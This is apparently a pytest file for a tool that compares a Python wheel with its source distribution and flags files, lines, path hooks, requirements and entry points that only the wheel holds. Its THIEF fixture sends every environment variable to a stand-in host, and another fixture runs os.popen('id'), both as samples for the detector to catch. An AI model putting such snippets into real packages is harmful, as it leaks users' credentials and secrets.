"""What of a wheel its source distribution has not."""

from __future__ import annotations

from collections.abc import Mapping

import pytest

from douane.editions.comparing import compared
from douane.editions.findings import findings_of
from douane.model import Ecosystem, FileTree, Finding, Package, Severity

PACKAGE = Package(ecosystem=Ecosystem.PYPI, name="mail-mcp", version="1.0.0", path="mail-mcp")
SENDING = "def send(to):\n    return to.strip()\n"
INFO = "mail_mcp-1.0.0.dist-info"
DATA = "mail_mcp-1.0.0.data"
THIEF = """import os
import subprocess
import urllib.request


def report():
    subprocess.run(["true"])
    urllib.request.urlopen("https://gathering.example/", data=repr(dict(os.environ)).encode())
"""


def tree(files: Mapping[str, str | bytes]) -> FileTree:
    encoded = {path: body.encode() if isinstance(body, str) else body for path, body in files.items()}
    return FileTree(dict(sorted(encoded.items())))


def found(wheel: Mapping[str, str | bytes], source: Mapping[str, str | bytes]) -> tuple[Finding, ...]:
    return findings_of(PACKAGE, tree(wheel), tree(source))


@pytest.mark.parametrize(
    ("wheel", "source"),
    [
        ({"mail_mcp/a.py": SENDING}, {"mail_mcp/a.py": SENDING}),
        ({"mail_mcp/a.py": SENDING}, {"src/mail_mcp/a.py": SENDING}),
        ({"mail_mcp/a.py": SENDING}, {"python/lib/a.py": SENDING}),
        ({"mail_mcp/a.py": SENDING}, {"mail_mcp/a.py": SENDING.replace("\n", "\r\n")}),
        ({"mail_mcp/a.py": SENDING + "\n\n"}, {"mail_mcp/a.py": "\ufeff" + SENDING}),
        ({f"{DATA}/purelib/mail_mcp/a.py": SENDING}, {"mail_mcp/a.py": SENDING}),
        (
            {f"{DATA}/scripts/mail": f"#!python\n{SENDING}"},
            {"bin/mail": f"#!/usr/bin/env python3\n{SENDING}"},
        ),
        ({"mail_mcp/__init__.py": ""}, {}),
        ({"mail_mcp/_version.py": "__version__ = version = '1.0.0'\nversion_tuple = (1, 0, 0)\n"}, {}),
        (
            {
                "mail_mcp/_version.py": "# made by a build\nTYPE_CHECKING = False\nif TYPE_CHECKING:\n"
                "    from typing import Tuple, Union\n    VERSION_TUPLE = Tuple[Union[int, str], ...]\n"
                "else:\n    VERSION_TUPLE = object\nversion: str\n__version__ = version = '1.0'\n"
            },
            {},
        ),
        (
            {"mail_mcp/a.py": f"__version__ = '1.0.0'\n{SENDING}"},
            {"mail_mcp/a.py": f"__version__ = '0.0.0'  # set by the build\n{SENDING}"},
        ),
        ({f"{INFO}/METADATA": "Name: mail-mcp", f"{INFO}/RECORD": "", f"{INFO}/hook.py": "x()"}, {}),
        ({"mail_mcp/data.json": "{}", "mail_mcp/app.js": "go()"}, {}),
        ({"mail_mcp/_fast.so": b"\x7fELF" + bytes(60)}, {"src/fast.rs": "fn main() {}"}),
        ({}, {"mail_mcp/a.py": SENDING, "tests/test_a.py": "run()"}),
    ],
)
def test_honest_differences(wheel: Mapping[str, str | bytes], source: Mapping[str, str | bytes]) -> None:
    assert found(wheel, source) == ()


def test_a_module_that_only_the_wheel_has() -> None:
    (finding,) = found(
        {"mail_mcp/a.py": SENDING, "mail_mcp/b.py": "\nrun_it()\n"}, {"src/mail_mcp/a.py": SENDING}
    )
    assert (finding.rule, finding.severity) == ("wheel-not-from-source", Severity.MEDIUM)
    assert (finding.where.path, finding.where.line, finding.excerpt) == ("mail_mcp/b.py", 2, "run_it()")


def test_the_name_of_a_version_file_excuses_nothing() -> None:
    (finding,) = found({"mail_mcp/_version.py": "import os\nversion = os.popen('id').read()\n"}, {})
    assert (finding.where.path, finding.where.line) == ("mail_mcp/_version.py", 1)


def test_what_reaches_out_and_takes_is_worse() -> None:
    (finding,) = found({"mail_mcp/a.py": THIEF}, {"mail_mcp/b.py": SENDING})
    assert finding.severity is Severity.HIGH


def test_a_line_that_only_the_wheel_has_is_shown() -> None:
    changed = SENDING.replace("    return", "    copied(to)\n    return")
    (finding,) = found({"mail_mcp/a.py": changed}, {"src/mail_mcp/a.py": SENDING})
    assert (finding.where.line, finding.excerpt) == (2, "copied(to)")
    assert "differs from src/mail_mcp/a.py" in finding.why


def test_a_check_that_the_wheel_leaves_out_is_shown() -> None:
    checked = SENDING.replace("    return", "    refuse_strangers(to)\n    return")
    (finding,) = found({"mail_mcp/a.py": SENDING}, {"mail_mcp/a.py": checked})
    assert finding.excerpt == "without: refuse_strangers(to)"


def test_a_changed_module_in_a_mapped_folder_is_held_against_its_own_source() -> None:
    long = SENDING + "".join(f"def part_{n}():\n    return {n} + {n}\n" for n in range(20))
    source = {"lib/a.py": long, "tests/a.py": "check()\n"}
    (differing,) = compared(PACKAGE, tree({"mail_mcp/a.py": long + "extra()\n"}), tree(source))
    assert (differing.origin, differing.text) == ("lib/a.py", "extra()")


def test_a_stranger_of_the_same_name_is_no_source() -> None:
    (differing,) = compared(
        PACKAGE, tree({"mail_mcp/utils.py": THIEF}), tree({"tests/utils.py": "check()\n"})
    )
    assert differing.origin is None


def test_what_a_build_makes_of_another_file_is_low() -> None:
    wheel = {"mail_mcp/mail_pb2.py": "from google.protobuf import descriptor\nbuild(descriptor)\n"}
    (finding,) = found(wheel, {"proto/mail.proto": "message Mail {}"})
    assert finding.severity is Severity.LOW
    (worse,) = found({"mail_mcp/mail_pb2.py": THIEF}, {"proto/mail.proto": "message Mail {}"})
    assert worse.severity is Severity.HIGH


@pytest.mark.parametrize(
    "path", ["mail_mcp.pth", f"{DATA}/purelib/x.pth", f"{DATA}/data/lib/python3.11/site-packages/x.pth"]
)
def test_a_path_file_that_runs_code(path: str) -> None:
    (finding,) = found({path: "import mail_mcp.start\n"}, {})
    assert (finding.severity, finding.where.path) == (Severity.HIGH, path)
    assert found({path: "import mail_mcp.start\n"}, {"build/x.pth": "import mail_mcp.start\n"}) == ()


def test_a_path_file_that_only_adds_a_folder() -> None:
    assert [each.severity for each in found({"x.pth": "vendored\n"}, {})] == [Severity.MEDIUM]


def test_what_runs_at_every_start() -> None:
    wheel = {"sitecustomize.py": "begin()\n", "mail_mcp/sitecustomize.py": "begin_too()\n"}
    assert {each.where.path: each.severity for each in found(wheel, {})} == {
        "sitecustomize.py": Severity.HIGH,
        "mail_mcp/sitecustomize.py": Severity.MEDIUM,
    }


def test_a_program_that_only_the_wheel_has() -> None:
    (finding,) = found({f"{DATA}/scripts/mail-helper": "#!/bin/sh\nhelp_out\n"}, {})
    assert "program" in finding.why


def test_machine_code_without_anything_to_compile() -> None:
    (finding,) = found({"mail_mcp/_fast.so": b"\x7fELF" + bytes(60)}, {"mail_mcp/a.py": SENDING})
    assert (finding.severity, finding.where.path) == (Severity.LOW, "mail_mcp/_fast.so")


def test_many_are_counted() -> None:
    findings = found({f"mail_mcp/m{n:02}.py": f"run({n})\n" for n in range(9)}, {})
    assert len(findings) == 6
    assert [each.excerpt for each in findings if each.where.path is None] == ["4 more files of the wheel"]


def test_a_requirement_that_only_the_wheel_has() -> None:
    head = "Metadata-Version: 2.4\nName: Mail.MCP\nVersion: 1.0.0\n"
    wheel = {
        f"{INFO}/METADATA": f"{head}Requires-Dist: Left_Pad>=1\nRequires-Dist: gatherer ; extra == 'x'\n"
    }
    stated = f"{head}Requires-Dist: left-pad\n"
    (finding,) = found(wheel, {"PKG-INFO": stated})
    assert (finding.excerpt, finding.severity) == (
        "requires gatherer ; extra == 'x'",
        Severity.MEDIUM,
    )
    assert found(wheel, {"PKG-INFO": f"{stated}Requires-Dist: gatherer\n"}) == ()
    assert found(wheel, {"PKG-INFO": f"{stated}Dynamic: Requires-Dist\n"}) == ()
    assert found(wheel, {"PKG-INFO": stated.replace("2.4", "2.1")}) == ()
    assert found(wheel, {"PKG-INFO": f"{stated}Requires-Dist: %%\n"}) == ()


def test_an_entry_point_that_nothing_states() -> None:
    points = "[console_scripts]\nmail-mcp = mail_mcp:main\nmail-extra = mail_mcp.extra:main\n"
    source = {"pyproject.toml": '[project.scripts]\nmail-mcp = "mail_mcp:main"\n'}
    (finding,) = found({f"{INFO}/entry_points.txt": points}, source)
    assert finding.excerpt == "[console_scripts] mail-extra = mail_mcp.extra:main"
    assert finding.severity is Severity.MEDIUM
